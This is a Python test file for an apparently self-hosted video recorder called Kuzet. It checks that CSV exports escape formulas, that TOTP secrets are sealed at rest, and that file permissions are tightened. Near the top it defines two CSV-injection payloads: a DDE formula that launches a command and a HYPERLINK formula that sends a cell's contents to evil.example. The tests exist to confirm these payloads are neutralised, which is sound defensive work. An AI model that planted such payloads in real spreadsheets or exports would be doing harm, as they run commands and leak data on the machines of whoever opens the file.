"""Issue 16, items 10 and 12: what leaves Kuzet as CSV cannot run in a spreadsheet, and
what stays on the recorder is the service user's alone, second-factor secrets sealed."""

from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update

from api_world import CAM, World
from conftest import Kuzet, stop, wait_for
from kuzet import csvcells
from kuzet.access.models import User
from kuzet.access.secretbox import SecretBox, SecretBoxError, key_path
from kuzet.audit.chain import GENESIS, EntryFacts, entry_hash
from kuzet.filemodes import exposed, tighten
from kuzet.timefmt import parse_instant

NOW = parse_instant("2026-09-21T14:00:00Z")
FORMULA = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Gate")'


@pytest.fixture
def world(storage: Any) -> World:
    return World(storage, NOW)


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def undo(cell: str) -> str:
    """The documented recipe (docs/ref/api.md): strip one leading quote."""
    return cell[1:] if cell.startswith("'") else cell


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def raw_secret(world: World, name: str) -> str:
    with world.svc.catalog.session() as s:
        return str(s.scalar(select(User.totp_secret).where(User.name == name)))


def test_cells_escape_reversibly() -> None:
    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'", "'=1", "''x", "plain",
                 "", "a=b"):
        written = csvcells.escape(text)
        assert isinstance(written, str)
        assert not written.startswith(csvcells.FORMULA_STARTS)
        assert csvcells.unescape(written) == undo(written) == text
    assert csvcells.escape(-5) == -5  # numbers stay numbers
    assert csvcells.escape("plain") == "plain"


def test_a_formula_typed_as_an_account_name_is_escaped_in_the_audit_csv(world: World) -> None:
    world.user("rector", "rector")
    r = world.client().post("/api/auth/login", json={"username": FORMULA, "password": "x"})
    assert r.status_code == 401
    r = world.client().post("/api/auth/login", json={"username": "'" + FORMULA,
                                                     "password": "x"})
    assert r.status_code == 401
    text = world.login("rector").get("/api/audit/export.csv").text
    rows = read_csv(text)
    failed = [r for r in rows if r["action"] == "auth.login_failed"]
    assert [(r["actor"], r["subject"]) for r in failed] == [
        ("'" + FORMULA, "'" + FORMULA), ("''" + FORMULA, "''" + FORMULA)]
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(csvcells.FORMULA_STARTS) for cell in row), row
    # An outsider recomputes the chain from the CSV alone, undoing the escape first.
    prev = GENESIS
    for line in rows:
        facts = EntryFacts(int(line["seq"]), int(line["at_ns"]), undo(line["actor"]),
                           undo(line["action"]), undo(line["subject"]), undo(line["detail"]))
        assert undo(line["prev_hash"]) == prev
        assert entry_hash(prev, facts) == undo(line["hash"])
        prev = line["hash"]
    assert len(rows) > 4


def test_a_formula_in_a_protocol_location_is_escaped_in_its_register(world: World) -> None:
    world.user("guard", "guard")
    guard = world.login("guard")
    pid = guard.post("/api/protocols", json={"camera": CAM}).json()["id"]
    r = guard.put(f"/api/protocols/{pid}", json={"location": HYPERLINK})
    assert r.status_code == 200, r.text
    (row,) = read_csv(guard.get("/api/protocols.csv").text)
    assert row["location"] == "'" + HYPERLINK
    assert row["camera"] == CAM


def test_totp_secrets_are_sealed_at_rest(world: World) -> None:
    world.user("rector", "rector")  # enrols a second factor
    sealed = raw_secret(world, "rector")
    assert world.secrets["rector"] not in sealed
    assert sealed.startswith("v1:")
    assert len(sealed) <= 64  # the column's width, which PostgreSQL enforces
    world.login("rector")  # password and TOTP code still work
    key = key_path(world.settings.home.resolve())
    assert mode(key) == 0o600
    assert mode(key.parent) == 0o700
    assert len(key.read_bytes()) == 32
    box = SecretBox(key)
    assert box.open(sealed, "rector") == world.secrets["rector"]
    with pytest.raises(SecretBoxError):  # bound to its account
        box.open(sealed, "vice")
    with pytest.raises(SecretBoxError):  # and to this installation's key
        SecretBox(key.with_name("other.key")).open(sealed, "rector")


def test_a_secret_stored_in_clear_is_read_then_sealed_by_init(world: World,
                                                              storage: Any) -> None:
    world.user("rector", "rector")
    clear = world.secrets["rector"]
    with world.svc.catalog.session.begin() as s:  # as an installation from before sealing
        s.execute(update(User).where(User.name == "rector").values(totp_secret=clear))
    world.login("rector")
    env = {**os.environ, "KUZET_HOME": str(world.settings.home),
           "KUZET_DATABASE_URL": storage.settings.catalog_url}
    out = subprocess.run([sys.executable, "-m", "kuzet", "init"], env=env, capture_output=True,
                         text=True, timeout=60, check=True)
    assert "sealed 1 second-factor secrets" in out.stderr
    assert clear not in raw_secret(world, "rector")
    world.login("rector")


def test_tighten_narrows_what_an_older_installation_left_open(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / "exports").mkdir(parents=True)
    (home / "exports" / "T-1.zip").write_bytes(b"PK")
    segment = home / "media" / "gate" / "a.mp4"
    segment.parent.mkdir(parents=True)
    segment.write_bytes(b"")
    outside = tmp_path / "elsewhere.txt"
    outside.write_bytes(b"")
    (home / "link").symlink_to(outside)
    opened = {home: 0o755, home / "exports": 0o755, home / "exports" / "T-1.zip": 0o644,
              home / "media": 0o755, segment.parent: 0o755, segment: 0o444}
    for p, m in {**opened, outside: 0o644}.items():
        p.chmod(m)
    assert {(f.path, f.mode) for f in exposed([home])} == set(opened.items())
    tighten([home], depth=1)  # `kuzet serve`: the home and its first level
    assert mode(home) == 0o700
    assert mode(home / "exports") == 0o700
    assert mode(segment.parent) == 0o755
    tighten([home])  # `kuzet init`: everything
    assert list(exposed([home])) == []
    assert mode(segment) == 0o400
    assert mode(home / "exports" / "T-1.zip") == 0o600
    assert mode(outside) == 0o644  # a link is not followed out of the home


def test_init_serve_and_recording_leave_nothing_for_other_users(kuzet: Kuzet) -> None:
    home = kuzet.home
    assert mode(home) == 0o700
    assert mode(home / "catalog.db") == 0o600
    assert mode(home / "kuzet.toml") == 0o600
    assert mode(home / "tls" / "key.pem") == 0o600
    # An installation from before: files and folders open to everyone.
    for p, m in ((home, 0o755), (home / "catalog.db", 0o644), (kuzet.volume, 0o755)):
        p.chmod(m)
    _, port = kuzet.sim()
    kuzet.run("camera", "add", "gate", f"rtsp://127.0.0.1:{port}/cam01/main", "--zone", "corridor")
    serve = kuzet.serve()
    wait_for(lambda: list(kuzet.volume.rglob("*.mp4")), 60, what="a closed segment")
    wal = home / "catalog.db-wal"
    assert wal.exists(), "kuzet serve holds the catalog open in WAL mode"
    for p in (home, kuzet.volume, home / "run"):
        assert mode(p) == 0o700, p
    for p in (home / "catalog.db", wal, home / "catalog.db-shm", home / "run" / "status.json"):
        assert mode(p) == 0o600, p
    segment = next(kuzet.volume.rglob("*.mp4"))
    assert mode(segment) == 0o400
    for d in segment.relative_to(kuzet.volume).parents:
        assert mode(kuzet.volume / d) == 0o700, d
    stop(serve, signal.SIGTERM)
    logs = {home / "serve.log", *home.glob("sim*.log")}  # the test's own, not Kuzet's
    for log in logs:
        log.chmod(0o600)
    out = kuzet.run("verify")
    assert "WARNING" not in out.stdout, out.stdout
    segment.chmod(0o444)
    (home / "catalog.db").chmod(0o644)
    out = kuzet.run("verify")  # warnings do not change the exit status
    warned = {line.split()[1]: line for line in out.stdout.splitlines()
              if line.startswith("WARNING")}
    assert "0444" in warned[str(segment)]
    assert "0644" in warned[str(home / "catalog.db")]
    # SQLite gives the WAL files it makes while verify reads the mode of the catalog.
    assert set(warned) <= {str(segment), *(f"{home / 'catalog.db'}{s}" for s in
                                           ("", "-wal", "-shm"))}, out.stdout


def test_the_installed_script_keeps_the_home_private_too(tmp_path: Path) -> None:
    """`kuzet` as installed (the README's way, not `python -m kuzet`) sets the same umask:
    the demo's media volume was made 0755 through it."""
    script = Path(sys.executable).parent / "kuzet"
    home = tmp_path / "home"
    home.mkdir()
    # not `init`, which narrows what it finds: a command that makes the catalog as it
    # goes (as `kuzet demo` made its first volume)
    subprocess.run([str(script), "volume", "list"], env={**os.environ, "KUZET_HOME": str(home)},
                   check=True, capture_output=True, timeout=120)
    for path in [home / "catalog.db", *home.glob("catalog.db-*")]:
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, (path, oct(path.stat().st_mode))
